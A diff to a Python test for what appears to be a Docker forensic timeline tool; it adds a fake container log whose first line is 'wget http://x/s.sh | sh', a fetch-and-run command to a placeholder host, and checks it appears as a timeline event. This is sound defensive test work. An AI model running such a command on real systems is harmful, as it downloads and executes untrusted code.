@@ -58,6 +58,13 @@ def test_timeline_files_from_a_triage(tmp_path: Path) -> None:
                          {"created": "0001-01-01T00:00:00Z", "created_by": "zero time: left out"},
                          {"created": "not a time", "created_by": "bad time: left out"}]  # fmt: skip
     image_config.write_text(json.dumps(config))
+    log = o.root / DOCKER / "containers" / o.cid / f"{o.cid}-json.log"
+    log.write_text(
+        json.dumps({"log": "wget http://x/s.sh | sh\n", "stream": "stdout", "time": "2024-05-01T12:00:00.5Z"})
+        + "\nnot json\n"
+        + json.dumps({"log": "done\n", "stream": "stderr", "time": "2024-05-01T12:00:01Z"})
+        + "\n"
+    )
 
     def planted(ctx: StepContext) -> None:
         ctx.report(Finding("test.passwd", Severity.HIGH, "uid 0 account added to /etc/passwd",
@@ -105,6 +112,12 @@ def test_timeline_files_from_a_triage(tmp_path: Path) -> None:
     finding = next(e for e in events if e.get("rule") == "test.passwd")
     assert finding["datetime"] == "2023-11-14T22:13:20Z"
     assert finding["timestamp_desc"] == "Finding: Content Modification Time of /etc/passwd"
+    logged = [e for e in events if e["timestamp_desc"] == "Container Log Line"]
+    assert [(e["datetime"], e["message"]) for e in logged] == [
+        ("2024-05-01T12:00:00.500000Z", "web stdout: wget http://x/s.sh | sh"),
+        ("2024-05-01T12:00:01Z", "web stderr: done"),
+    ]
+    assert logged[0]["evidence"] == f"containers/{o.cid}/{o.cid}-json.log"
     host_finding = next(e for e in events if e.get("rule") == "test.host")
     assert host_finding["timestamp_desc"] == "Finding Reported (collection time)"
     weird = next(e for e in events if e.get("path", "").startswith("/tmp/we"))
